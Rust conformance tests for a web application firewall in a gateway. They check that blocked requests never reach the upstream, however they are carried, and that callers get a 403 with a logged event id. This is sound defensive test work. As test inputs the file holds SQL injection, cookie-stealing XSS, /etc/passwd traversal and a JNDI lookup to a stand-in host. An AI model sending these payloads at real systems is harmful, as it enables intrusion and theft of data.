//! An attack that a rule blocks leaves the upstream without one byte, however it is carried, and
//! the caller gets a readable 403 with an event id that stands in the log of WAF events.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests")]

use std::io::Write;
use std::time::Duration;

use portcullis_conformance::{Failures, HOST, Stage, browser_get, post};
use portcullis_testkit::document;
use portcullis_testkit::h2_client::H2Client;
use portcullis_testkit::message::chunked;
use portcullis_testkit::raw::{RawDownstream, Response, ask};
use portcullis_testkit::upstream::Answer;

const FORM: &str = "application/x-www-form-urlencoded";
const FORM_ATTACK: &[u8] = b"name=anna&q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-";
const JSON_ATTACK: &[u8] = br#"{"items":[{"comment":"<script>alert(document.cookie)</script>"}]}"#;
const CANARY: &str = "/canary";

/// Headers that the rule set refuses by themselves, whatever the body: left out here, so that it is
/// the body that decides.
const CARRIERS_ALLOWED: &str = ", directives: \"SecRuleRemoveById 920450\"";

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn brotli(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = brotli::CompressorWriter::new(Vec::new(), 4096, 5, 20);
    encoder.write_all(bytes).unwrap();
    encoder.into_inner()
}

fn zstd(bytes: &[u8]) -> Vec<u8> {
    zstd::encode_all(bytes, 3).unwrap()
}

type Coding = (&'static str, fn(&[u8]) -> Vec<u8>);
const CODINGS: [Coding; 4] = [("gzip", gzip), ("deflate", deflate), ("br", brotli), ("zstd", zstd)];

fn multipart(value: &str) -> Vec<u8> {
    format!(
        "--frontier\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{value}\r\n\
         --frontier--\r\n"
    )
    .into_bytes()
}

fn chunked_post(media_type: &str, more: &str, body: &[u8], size: usize) -> Vec<u8> {
    let mut request = format!(
        "POST /form HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: test/1\r\nAccept: */*\r\n\
         Content-Type: {media_type}\r\n{more}Transfer-Encoding: chunked\r\n\r\n"
    )
    .into_bytes();
    request.extend(chunked(body, size, &[]));
    request
}

/// Attacks over HTTP/1 as the bytes of the request.
fn attacks() -> Vec<(String, Vec<u8>)> {
    let mut all: Vec<(String, Vec<u8>)> = [
        ("query", browser_get("/?id=1%27%20OR%20%271%27=%271", "")),
        ("path traversal in a parameter", browser_get("/?file=../../../../etc/passwd", "")),
        ("script in a parameter", browser_get("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "")),
        ("header", browser_get("/", "X-Api-Version: ${jndi:ldap://evil.test/a}\r\n")),
        ("cookie", browser_get("/", "Cookie: a=1; b=%27%20UNION%20SELECT%201,2,3--%20-\r\n")),
        ("scanner", format!("GET / HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: sqlmap/1.7\r\n\r\n")),
    ]
    .map(|(name, request)| (name.to_owned(), request.into_bytes()))
    .to_vec();
    let multi = multipart("<script>alert(1)</script>");
    for (name, media_type, body) in [
        ("form", FORM, FORM_ATTACK),
        ("JSON", "application/json", JSON_ATTACK),
        ("multipart", "multipart/form-data; boundary=frontier", &multi),
    ] {
        all.push((format!("{name} with a length"), post("/form", media_type, "", body)));
        all.push((format!("{name} in one chunk"), chunked_post(media_type, "", body, 1 << 20)));
        all.push((format!("{name} in chunks of 1"), chunked_post(media_type, "", body, 1)));
        for (coding, encode) in CODINGS {
            let more = format!("Content-Encoding: {coding}\r\n");
            let coded = encode(body);
            all.push((format!("{name}, {coding}"), post("/form", media_type, &more, &coded)));
            all.push((
                format!("{name}, {coding}, chunks of 3"),
                chunked_post(media_type, &more, &coded, 3),
            ));
        }
    }
    all
}

/// 32 hex digits in a readable text: the event id.
fn event_id(body: &str) -> Option<String> {
    body.split(|c: char| !c.is_ascii_hexdigit())
        .find(|word| word.len() == 32)
        .map(str::to_ascii_lowercase)
}

async fn judge(stage: &Stage, failures: &mut Failures, name: &str, response: &Response) {
    failures.check(name, response.status() == 403, || format!("got {:?}", response.head.start));
    let text = response.text();
    let Some(id) = event_id(&text) else {
        return failures.note(name, format!("no event id in {text:?}"));
    };
    let found = stage.gateway.waf_line(name, |line| line["event_id"] == id.as_str()).await;
    match found {
        Err(problem) => failures.note(name, problem),
        Ok(line) => failures.check(name, line["action"] == "blocked", || line.to_string()),
    }
}

/// Only the canary may have reached the upstream, and exactly once.
async fn only_the_canary(stage: &Stage) {
    assert_eq!(stage.targets(), Vec::<String>::new(), "before the canary");
    assert_eq!(stage.upstream.total_bytes(), 0, "bytes before the canary");
    let response = ask(stage.http(), browser_get(CANARY, "Connection: close\r\n")).await.unwrap();
    assert_eq!(response.status(), 200, "{response:?}");
    assert_eq!(stage.targets(), [CANARY]);
}

async fn waf_stage() -> Stage {
    Stage::start(&document::waf(CARRIERS_ALLOWED), |_| Answer::ok("ok")).await.unwrap()
}

#[tokio::test]
async fn over_http1_the_upstream_sees_nothing() {
    let stage = waf_stage().await;
    let cases = attacks();
    let mut failures = Failures::default();
    for (name, request) in &cases {
        match ask(stage.http(), request).await {
            Ok(response) => judge(&stage, &mut failures, name, &response).await,
            Err(problem) => failures.note(name, problem),
        }
    }
    only_the_canary(&stage).await;
    failures.finish(cases.len());
}

#[tokio::test]
async fn however_slowly_the_bytes_come() {
    let stage = waf_stage().await;
    let request = post("/form", FORM, "", FORM_ATTACK);
    let mut failures = Failures::default();
    let sizes = [1, 3, 7, 40];
    for size in sizes {
        let mut down = RawDownstream::connect(stage.http()).await.unwrap();
        down.send_slowly(&request, size, Duration::from_millis(1)).await.unwrap();
        let response = down.read("POST").await.unwrap();
        judge(&stage, &mut failures, &format!("pieces of {size}"), &response).await;
    }
    only_the_canary(&stage).await;
    failures.finish(sizes.len());
}

#[tokio::test]
async fn also_after_a_100_continue() {
    let stage = waf_stage().await;
    let head = format!(
        "POST /form HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: test/1\r\nAccept: */*\r\n\
         Expect: 100-continue\r\nContent-Type: {FORM}\r\nContent-Length: {}\r\n\r\n",
        FORM_ATTACK.len()
    );
    let mut down = RawDownstream::connect(stage.http()).await.unwrap();
    down.send(head).await.unwrap();
    assert_eq!(down.read_head().await.unwrap().status(), 100);
    down.send(FORM_ATTACK).await.unwrap();
    let mut failures = Failures::default();
    let response = down.read("POST").await.unwrap();
    judge(&stage, &mut failures, "100-continue", &response).await;
    only_the_canary(&stage).await;
    failures.finish(1);
}

#[tokio::test]
async fn also_pipelined_behind_a_good_request() {
    let stage = waf_stage().await;
    let mut down = RawDownstream::connect(stage.http()).await.unwrap();
    let mut both = browser_get("/good", "").into_bytes();
    both.extend(post("/form", FORM, "", FORM_ATTACK));
    down.send(both).await.unwrap();
    assert_eq!(down.read("GET").await.unwrap().status(), 200);
    // The second request may be answered or, without pipelining, left unanswered.
    if let Ok(second) = down.read("POST").await {
        assert_eq!(second.status(), 403);
    }
    assert_eq!(stage.targets(), ["/good"]);
}

/// A name, a head and the body in pieces.
type H2Case<'a> = (&'a str, http::Request<()>, Vec<&'a [u8]>);

#[tokio::test]
async fn over_http2_the_upstream_sees_nothing() {
    let stage = waf_stage().await;
    let mut failures = Failures::default();
    let plain = H2Client::plain(stage.h2c()).await.unwrap();
    let tls = H2Client::tls(&stage.authority, stage.tls(), HOST).await.unwrap();
    let mut count = 0;
    for (transport, mut client) in [("h2c", plain), ("h2", tls)] {
        let scheme = if transport == "h2" { "https" } else { "http" };
        let build = |method: &str, target: &str| {
            http::Request::builder()
                .method(method)
                .uri(format!("{scheme}://{HOST}{target}"))
                .header("user-agent", "test/1")
                .header("accept", "*/*")
        };
        let get = build("GET", "/?id=1%27%20OR%20%271%27=%271").body(()).unwrap();
        let form = build("POST", "/form").header("content-type", FORM).body(()).unwrap();
        let split: Vec<&[u8]> = FORM_ATTACK.chunks(5).collect();
        let coded = gzip(FORM_ATTACK);
        let zipped = build("POST", "/form")
            .header("content-type", FORM)
            .header("content-encoding", "gzip")
            .body(())
            .unwrap();
        let cases: [H2Case<'_>; 3] =
            [("GET", get, vec![]), ("form", form, split), ("gzip", zipped, vec![&coded])];
        for (name, request, body) in cases {
            count += 1;
            let name = format!("{transport} {name}");
            match client.ask(request, &body, None).await {
                Ok(answer) => {
                    failures.check(&name, answer.status == 403, || answer.status.to_string());
                    let text = String::from_utf8_lossy(&answer.body).into_owned();
                    failures.check(&name, event_id(&text).is_some(), || text);
                }
                Err(problem) => failures.note(&name, problem),
            }
        }
    }
    only_the_canary(&stage).await;
    failures.finish(count);
}

/// A JSON array of about `length` bytes, benign, of few entries: their number has a limit of its own.
fn pages(length: usize) -> Vec<u8> {
    let page = "a page of plain words that nobody minds ".repeat(100);
    let count = length / page.len() + 1;
    let list: Vec<String> = (0..count).map(|_| format!("\"{page}\"")).collect();
    format!("[{}]", list.join(",")).into_bytes()
}

#[tokio::test]
async fn a_body_over_the_limit_is_refused_where_the_limit_rejects() {
    let more = ", request_body: { limit: 16KiB, on_limit: reject }";
    let stage = Stage::start(&document::waf(more), |_| Answer::ok("ok")).await.unwrap();
    let mut failures = Failures::default();
    let big = pages(64 << 10);
    let cases = [
        ("with a length", post("/big", "application/json", "", &big)),
        ("chunked", chunked_post("application/json", "", &big, 1000)),
    ];
    let count = cases.len();
    for (name, request) in cases {
        match ask(stage.http(), request).await {
            Ok(response) => failures
                .check(name, response.status() == 413, || format!("{:?}", response.head.start)),
            Err(problem) => failures.note(name, problem),
        }
    }
    only_the_canary(&stage).await;
    failures.finish(count);
}

#[tokio::test]
async fn a_body_over_the_limit_passes_after_its_first_part_where_the_limit_is_partial() {
    let more = ", request_body: { limit: 16KiB, on_limit: partial }";
    let stage = Stage::start(&document::waf(more), |_| Answer::ok("ok")).await.unwrap();
    let padding = "a".repeat(40 << 10);
    let attack = [b"q=1%27%20UNION%20SELECT%201%20FROM%20users--&z=", padding.as_bytes()].concat();
    let response = ask(stage.http(), post("/first", FORM, "", &attack)).await.unwrap();
    assert_eq!(response.status(), 403, "an attack in the inspected part");
    assert_eq!(stage.upstream.total_bytes(), 0);
    // The answer can be read although most of the body was still to come.
    let padding = "a".repeat(4 << 20);
    let attack = [b"q=1%27%20UNION%20SELECT%201%20FROM%20users--&z=", padding.as_bytes()].concat();
    for request in [post("/first", FORM, "", &attack), chunked_post(FORM, "", &attack, 8192)] {
        let response = ask(stage.http(), request).await.unwrap();
        assert_eq!(response.status(), 403, "an attack in the inspected part of a large body");
    }
    assert_eq!(stage.upstream.total_bytes(), 0);
    let big = pages(64 << 10);
    let response = ask(stage.http(), post("/big", "application/json", "", &big)).await.unwrap();
    assert_eq!(response.status(), 200, "{}", response.text());
    assert_eq!(stage.upstream.last().unwrap().body.bytes, big);
    let line = stage.gateway.access_line("/big", |line| line["path"] == "/big").await.unwrap();
    assert!(line["flags"].to_string().contains("partial_inspection"), "{line}");
}

#[tokio::test]
async fn compressed_bodies_without_an_attack_pass_as_they_are() {
    let stage = waf_stage().await;
    let mut failures = Failures::default();
    for (coding, encode) in CODINGS {
        let coded = encode(br#"{"name":"Anna","items":[1,2,3]}"#);
        let more = format!("Content-Encoding: {coding}\r\n");
        let request = post("/ok", "application/json", &more, &coded);
        let response = ask(stage.http(), request).await.unwrap();
        failures.check(coding, response.status() == 200, || response.head.start.clone());
        let seen = stage.upstream.last().map(|request| request.body.bytes).unwrap_or_default();
        failures.check(coding, seen == coded, || format!("{} bytes arrived", seen.len()));
    }
    failures.finish(CODINGS.len());
}

#[tokio::test]
async fn detection_lets_pass_and_reports() {
    let filters = "filters:\n  - waf: { ruleset: crs, mode: detection }\n";
    let stage = Stage::start(filters, |_| Answer::ok("ok")).await.unwrap();
    let request = browser_get("/?id=1%27%20OR%20%271%27=%271", "");
    assert_eq!(ask(stage.http(), request).await.unwrap().status(), 200);
    let event = stage.gateway.waf_line("the attack", |line| line["action"] == "detected").await;
    let event = event.unwrap();
    assert!(event["matches"].as_array().is_some_and(|list| !list.is_empty()), "{event}");
}
